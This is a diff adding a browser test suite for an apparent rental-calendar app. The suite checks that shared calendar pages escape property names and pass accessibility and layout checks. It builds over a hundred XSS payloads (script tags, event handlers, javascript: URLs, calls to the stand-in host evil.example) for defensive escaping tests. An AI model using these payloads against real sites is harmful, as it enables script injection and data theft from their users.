@@ -1,0 +1,167 @@
+import assert from 'node:assert/strict';
+import { readFileSync } from 'node:fs';
+import { createRequire } from 'node:module';
+import { after, before, it } from 'node:test';
+import { type Browser, describeInBrowser, startBrowser, type Tab } from '../support/browser.ts';
+import { startCore, type TestCore } from '../support/core.ts';
+
+const AXE = readFileSync(createRequire(import.meta.url).resolve('axe-core/axe.min.js'), 'utf8');
+const PHONE = 360;
+const DESKTOP = 1_280;
+
+/** What would run, load or break out if any of it were taken for markup; each says so in its own way. */
+const SINKS = [
+  "console.log('ran')",
+  "alert('ran')",
+  "location='http://evil.example/'",
+  "fetch('http://evil.example/')",
+];
+const FORMS = [
+  (code: string) => `<script>${code}</script>`,
+  (code: string) => `</title><script>${code}</script>`,
+  (code: string) => `</h1></h2></style><script>${code}</script>`,
+  (code: string) => `"><script>${code}</script>`,
+  (code: string) => `'><img src=x onerror=${code.replaceAll(/\s/g, '')}>`,
+  (code: string) => `<img src="http://evil.example/a.png" onerror="${code}">`,
+  (code: string) => `<svg onload="${code}">`,
+  (code: string) => `<svg><script>${code}</script></svg>`,
+  (code: string) => `<body onload="${code}">`,
+  (code: string) => `<iframe src="javascript:${code}"></iframe>`,
+  (code: string) => `<iframe srcdoc="<script>${code}</script>">`,
+  (code: string) => `<a href="javascript:${code}" autofocus onfocus="${code}">x</a>`,
+  (code: string) => `<details open ontoggle="${code}">`,
+  (code: string) => `<video><source onerror="${code}"></video>`,
+  (code: string) => `<input autofocus onfocus="${code}">`,
+  (code: string) => `<math><mtext><style><img src=x onerror="${code}">`,
+  (code: string) => `<noscript><p title="</noscript><img src=x onerror=${code}>">`,
+  (code: string) => `<!--><img src=x onerror="${code}">-->`,
+  (code: string) => `" onmouseover="${code}" autofocus onfocus="${code}" x="`,
+  (code: string) => `' style='background:url(http://evil.example/)' onfocus='${code}`,
+  (code: string) => `<style>@import 'http://evil.example/a.css';</style>${code}`,
+  (code: string) => `<link rel=stylesheet href=http://evil.example/a.css>${code}`,
+  (code: string) => `<meta http-equiv=refresh content="0;url=javascript:${code}">`,
+  (code: string) => `<base href="http://evil.example/"><script src=a.js></script>${code}`,
+  (code: string) => `&lt;script&gt;${code}&lt;/script&gt;<ScRiPt>${code}</sCrIpT>`,
+  (code: string) => `\u2028</section><object data="javascript:${code}"></object>\u0000`,
+];
+const PAYLOADS = FORMS.flatMap((form) => SINKS.map(form));
+
+const WIDTHS = [PHONE, DESKTOP];
+/** One of many parts that are made alike; all of them are looked at once. */
+const PART_OF_DOCS = '#createReservation';
+
+/** Everything on a page that a machine can tell to be in somebody's way, by axe: on both widths, light and dark. */
+async function obstacles(tab: Tab, part?: string): Promise<string[]> {
+  const found: string[] = [];
+  await tab.evaluate(`${AXE}; undefined`);
+  for (const [index, width] of WIDTHS.entries()) {
+    for (const dark of [false, true]) {
+      await tab.resize(width, 900);
+      await tab.prefersDark(dark);
+      const where = part === undefined || (index === 0 && !dark) ? 'document' : `document.querySelector('${part}')`;
+      const violations: { id: string; nodes: { html: string; failureSummary: string }[] }[] = await tab.evaluate(
+        `axe.run(${where}, { resultTypes: ['violations'] }).then((result) => result.violations)`,
+      );
+      found.push(
+        ...violations.map(
+          ({ id, nodes }) =>
+            `${width}${dark ? ' dark' : ''} ${id}: ${nodes.length} x ${nodes[0]?.html} ${nodes[0]?.failureSummary}`,
+        ),
+      );
+    }
+  }
+  return found;
+}
+
+/** How much wider than the window a page is. */
+const OVERFLOW = 'document.documentElement.scrollWidth - innerWidth';
+
+describeInBrowser('pages in a browser', () => {
+  let core: TestCore;
+  let browser: Browser;
+  let url: string;
+  before(async () => {
+    core = await startCore();
+    await core.core.store.db.updateTable('accounts').set({ property_quota: 1_000 }).execute();
+    url = await core.app.listen({ host: '127.0.0.1', port: 0 });
+    browser = await startBrowser();
+  });
+  after(async () => {
+    await browser.close();
+    await core.close();
+  });
+
+  const pathOf = (shared: string) => new URL(shared).pathname;
+
+  it(`S28: ${PAYLOADS.length} scripts in names that a shared calendar shows: none runs, nothing is loaded, no breach of its policy`, async (t) => {
+    assert.ok(PAYLOADS.length >= 100);
+    for (const [index, payload] of PAYLOADS.entries()) {
+      // Names are short and told apart by their case alone; what is cut off at the end is not needed to break out.
+      await core.call('createProperty', { title: `${index} ${payload}`.slice(0, 100) });
+    }
+    const all = await core.call('createCalendarShareLink', { scope: 'entire' });
+    const { properties } = await core.call('listProperties', { limit: 1 });
+    const one = await core.call('createCalendarShareLink', { scope: 'partial', property_ids: [properties[0].id] });
+    const tab = await browser.newTab();
+    let shown = 0;
+    const pages = Math.ceil(PAYLOADS.length / 20);
+    for (let page = 1; page <= pages; page += 1) {
+      await tab.open(`${url}${pathOf(all.url)}?page=${page}`);
+      const names: string[] = await tab.evaluate("[...document.querySelectorAll('h2')].map((one) => one.textContent)");
+      shown += names.filter((name) => /^\d+ /.test(name)).length;
+      assert.deepEqual(
+        await tab.evaluate(
+          "[...document.querySelectorAll('script,img,iframe,object,svg,video,base,link,input,math,[onerror],[onload],[onfocus]')].length",
+        ),
+        0,
+      );
+    }
+    // A name alone stands in the title too.
+    await tab.open(`${url}${pathOf(one.url)}?month=%3Cscript%3Ealert(1)%3C/script%3E&page="><script>alert(1)</script>`);
+    await tab.open(`${url}/share/%3Cscript%3Ealert(1)%3C%2Fscript%3E`);
+    await tab.open(`${url}/docs?q=<script>alert(1)</script>#<img src=x onerror=alert(1)>`);
+    const { executions, violations, requests } = tab.record;
+    t.diagnostic(`${PAYLOADS.length} payloads, ${requests.length} requests, ${violations.length} reports`);
+    assert.equal(shown, PAYLOADS.length, 'every name is shown, as text');
+    assert.deepEqual([executions, violations], [[], []]);
+    assert.deepEqual(
+      requests.filter((asked) => !asked.startsWith(`${url}/`) && !asked.startsWith('data:')),
+      [],
+    );
+  });
+
+  it('S28: what would run, does, where it may: the test would see it', async () => {
+    const tab = await browser.newTab();
+    await tab.open('data:text/html,<script>console.log("ran")</script><img src=x onerror="alert(1)">');
+    await tab.evaluate('new Promise((resolve) => setTimeout(resolve, 50))');
+    assert.ok(tab.record.executions.includes('ran'), tab.record.executions.join());
+    assert.ok(tab.record.executions.some((one) => one.startsWith('dialog')));
+    const guarded = '<meta http-equiv="content-security-policy" content="default-src \'none\'"><script>1</script>';
+    await tab.open(`data:text/html,${encodeURIComponent(guarded)}`);
+    assert.ok(tab.record.violations.length > 0, 'a breach of a policy is told');
+  });
+
+  it('nobody is in anybody’s way: axe finds nothing, and no page is wider than its window', async () => {
+    const property = await core.call('createProperty', {
+      title: 'Garden flat with a rather long name by the old harbour',
+    });
+    await core.call('updateAvailabilities', {
+      property_ids: [property.property_id],
+      available: false,
+      start_date: '2026-12-20',
+      end_date: '2027-01-03',
+    });
+    const partial = { scope: 'partial', property_ids: [property.property_id] };
+    const link = await core.call('createCalendarShareLink', partial);
+    const all = await core.call('createCalendarShareLink', { scope: 'entire' });
+    const tab = await browser.newTab();
+    for (const path of [pathOf(link.url), pathOf(all.url), `/share/${'x'.repeat(32)}`, '/docs']) {
+      await tab.open(`${url}${path}`);
+      assert.deepEqual(await obstacles(tab, path === '/docs' ? PART_OF_DOCS : undefined), [], path);
+      for (const width of [320, PHONE, 768, DESKTOP]) {
+        await tab.resize(width, 800);
+        assert.ok((await tab.evaluate(OVERFLOW)) <= 0, `${path} is wider than ${width}`);
+      }
+    }
+  });
+});
